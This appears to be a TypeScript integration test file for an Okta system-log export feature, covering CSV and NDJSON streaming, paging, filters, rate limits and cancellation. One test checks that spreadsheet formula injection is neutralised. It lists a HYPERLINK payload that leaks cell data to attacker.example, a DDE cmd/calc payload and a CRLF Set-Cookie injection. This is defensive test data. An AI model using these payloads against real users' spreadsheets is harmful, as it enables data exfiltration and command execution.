import assert from 'node:assert/strict';
import { get, type IncomingMessage } from 'node:http';
import { after, before, describe, test } from 'node:test';
import { createOktaClient } from '../../../src/okta/index.ts';
import { type Harness, startHarness } from '../../helpers/app-harness.ts';
import { signInToApp } from '../../helpers/app-session.ts';
import type { Browser } from '../../helpers/browser.ts';
import { eventually, logCalls } from './logs-helpers.ts';

const DAY = 24 * 3600_000;
let h: Harness;
let browser: Browser;
// A fixed, bounded range over most of the seeded history: about 2,000 events, so three pages of 1000.
const until = new Date(Math.floor(Date.now() / 1000) * 1000 - DAY);
const since = new Date(until.getTime() - 80 * DAY);
const range = `range=custom&since=${since.toISOString()}&until=${until.toISOString()}&sortOrder=ASCENDING`;

before(async () => {
  h = await startHarness({ sandbox: { seed: { users: 40, events: 2500 }, rateLimits: { enabled: false } } });
  browser = await signInToApp(h);
});
after(async () => {
  await h?.close();
});

/** The uuids of the range as Okta's own paging returns them (an SSWS client on the sandbox, no app involved). */
async function expectedUuids(filter?: string): Promise<string[]> {
  const direct = createOktaClient({ orgUrl: h.sandbox.issuer, apiToken: h.sandbox.org.apiToken.token });
  const uuids: string[] = [];
  const { rawFilter } = await import('../../../src/okta/index.ts');
  const query = {
    since,
    until,
    limit: 1000,
    sortOrder: 'ASCENDING' as const,
    filter: filter ? rawFilter(filter) : undefined,
  };
  for await (const event of direct.logs.events(query)) uuids.push(String(event.uuid));
  await direct.close();
  return uuids;
}

/** RFC 4180 parser for the test: rows of cells (quoted fields, doubled quotes, CRLF rows). */
function parseCsv(text: string): string[][] {
  const rows: string[][] = [];
  let row: string[] = [];
  let i = 0;
  while (i < text.length) {
    assert.equal(text[i], '"', `every cell is quoted (at ${i})`);
    let cell = '';
    i++;
    for (;;) {
      const quote = text.indexOf('"', i);
      assert.ok(quote >= 0, 'a cell ends');
      cell += text.slice(i, quote);
      if (text[quote + 1] === '"') {
        cell += '"';
        i = quote + 2;
        continue;
      }
      i = quote + 1;
      break;
    }
    row.push(cell);
    if (text[i] === ',') {
      i++;
    } else {
      assert.equal(text.slice(i, i + 2), '\r\n', 'rows end with CRLF');
      rows.push(row);
      row = [];
      i += 2;
    }
  }
  return rows;
}

/** Starts a download with the browser's cookie; resolves when the response headers arrive. */
function startDownload(path: string): Promise<IncomingMessage> {
  const url = new URL(path, h.baseUrl);
  return new Promise((resolve, reject) => {
    get(url, { headers: { cookie: browser.jar.header(url) } }, resolve).once('error', reject);
  });
}

async function readAll(response: IncomingMessage): Promise<string> {
  let text = '';
  response.setEncoding('utf8');
  for await (const chunk of response) text += chunk;
  return text;
}

describe('export', () => {
  test('CSV holds exactly the events of the bounded query, fetched at limit=1000 by following next links', async () => {
    const before = logCalls(h).length;
    const response = await startDownload(`/logs/export.csv?${range}`);
    assert.equal(response.statusCode, 200);
    assert.equal(response.headers['content-type'], 'text/csv; charset=utf-8');
    assert.match(
      String(response.headers['content-disposition']),
      /^attachment; filename="system-log_\d{8}T\d{6}Z_\d{8}T\d{6}Z\.csv"$/,
    );
    assert.equal(response.headers['content-length'], undefined, 'streamed, not buffered');
    assert.equal(response.headers['transfer-encoding'], 'chunked');
    const text = await readAll(response);
    assert.ok(text.startsWith('\uFEFF'), 'a byte order mark for spreadsheets');
    const [header, ...rows] = parseCsv(text.slice(1));
    const uuidColumn = header?.indexOf('uuid') ?? -1;
    assert.ok(uuidColumn >= 0);
    const calls = logCalls(h).slice(before);
    const expected = await expectedUuids();
    assert.ok(expected.length > 2000, 'the range spans several pages');
    assert.deepEqual(
      rows.map((row) => row[uuidColumn]),
      expected,
    );

    assert.equal(calls.length, Math.ceil(expected.length / 1000));
    const first = calls[0]?.searchParams;
    assert.equal(first?.get('limit'), '1000');
    assert.equal(first?.get('since'), since.toISOString());
    assert.equal(first?.get('until'), until.toISOString());
    assert.ok(
      calls.slice(1).every((call) => call.searchParams.has('after')),
      'later pages follow next links',
    );
  });

  test('NDJSON holds the same events, one JSON object per line', async () => {
    const response = await startDownload(`/logs/export.ndjson?${range}`);
    assert.equal(response.statusCode, 200);
    assert.equal(response.headers['content-type'], 'application/x-ndjson; charset=utf-8');
    const lines = (await readAll(response)).split('\n');
    assert.equal(lines.pop(), '', 'the file ends with a newline');
    const uuids = lines.map((line) => (JSON.parse(line) as { uuid: string }).uuid);
    assert.deepEqual(uuids, await expectedUuids());
  });

  test('CSV cells that a spreadsheet would run as formulas are neutralised; all values are quoted', async () => {
    const response = await startDownload(`/logs/export.csv?range=90d`);
    const [header, ...rows] = parseCsv((await readAll(response)).slice(1));
    const name = header?.indexOf('actor.displayName') ?? -1;
    const names = rows.map((row) => row[name] ?? '');
    assert.ok(
      names.includes(`'=HYPERLINK("http://attacker.example/?leak="&A1,"click")`),
      'the formula got a leading quote',
    );
    assert.ok(names.includes(`'@SUM(1+1)*cmd|' /C calc'!A0`));
    for (const row of rows) {
      for (const cell of row) assert.doesNotMatch(cell, /^[=+\-@\t\r]/, 'no cell starts a formula');
    }
    assert.ok(
      rows.some((row) => row.some((cell) => cell.includes('\r\nSet-Cookie'))),
      'line breaks stay inside their quoted cell',
    );
  });

  test('the filters of the page are part of the export', async () => {
    const before = logCalls(h).length;
    const response = await startDownload(`/logs/export.ndjson?${range}&eventType=user.session.start`);
    const events = (await readAll(response))
      .trim()
      .split('\n')
      .map((line) => JSON.parse(line) as { eventType: string });
    assert.ok(events.length > 0);
    assert.ok(events.every((event) => event.eventType === 'user.session.start'));
    assert.equal(logCalls(h)[before]?.searchParams.get('filter'), 'eventType eq "user.session.start"');
  });

  test('a 429 in the middle of an export is waited out until the reset, and the export completes', async () => {
    h.sandbox.managementApi.rateLimiter.configure({ windowMs: 2000 });
    h.sandbox.managementApi.rateLimiter.reset();
    try {
      const before = logCalls(h).length;
      const response = await startDownload(`/logs/export.ndjson?${range}`);
      // The first page is out (the headers came with it); the next three answers are 429s, more than the
      // client's own two retries, so the export itself waits for Okta's reset.
      const remove = h.sandbox.managementApi.faults.set({ path: '/api/v1/logs', status: 429, times: 3 });
      const uuids = (await readAll(response))
        .trim()
        .split('\n')
        .map((line) => (JSON.parse(line) as { uuid: string }).uuid);
      remove();
      assert.deepEqual(uuids, await expectedUuids());
      const statuses = h.sandbox.managementApi.received
        .forPath('/api/v1/logs')
        .slice(before)
        .map((request) => request.status);
      assert.deepEqual(statuses.slice(0, 5), [200, 429, 429, 429, 200]);
      assert.ok(h.logs.some((line) => line.includes('export waits for the rate limit to reset')));
    } finally {
      h.sandbox.managementApi.rateLimiter.configure({ windowMs: 60_000 });
    }
  });

  test('closing the download stops the Okta calls', async () => {
    const before = logCalls(h).length;
    const response = await startDownload(`/logs/export.csv?${range}`);
    // Page 1 has been fetched; page 2 will take long to come, so the download is still running when closed.
    const remove = h.sandbox.managementApi.faults.set({ path: '/api/v1/logs', latencyMs: 1500 });
    try {
      await new Promise<void>((resolve) => response.once('data', () => resolve()));
      await eventually(() => logCalls(h).length - before === 2, 'the export asked for page 2');
      response.destroy();
      const callsAtClose = logCalls(h).length;
      await eventually(
        () => h.logs.some((line) => line.includes('export ended: client-closed')),
        'the export noticed the closed download',
      );
      const second = h.sandbox.managementApi.received.forPath('/api/v1/logs').at(-1);
      await eventually(() => second?.outcome !== 'pending', 'the request for page 2 ended');
      assert.equal(second?.outcome, 'aborted', 'the request in flight was aborted');
      // Let a page's worth of time pass: nothing more may arrive.
      await new Promise((resolve) => setTimeout(resolve, 2000));
      assert.equal(logCalls(h).length, callsAtClose, 'no Okta call after the download closed');
      assert.equal(logCalls(h).length - before, 2, 'two of the three pages were asked for');
    } finally {
      remove();
    }
  });
});
